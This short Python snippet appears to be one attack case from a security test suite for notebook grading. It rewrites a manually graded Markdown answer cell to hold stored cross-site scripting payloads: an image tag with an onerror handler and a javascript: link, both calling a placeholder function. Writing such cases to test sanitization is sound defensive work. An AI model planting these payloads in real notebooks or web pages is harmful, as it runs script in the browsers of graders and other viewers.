"""Write a script into the Markdown answer that a person grades.

Wins: page.
"""


def tamper(notebook):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why":
            cell.source = "Because.\n\n<img src=x onerror='pwned()'>\n\n[more](javascript:pwned())"
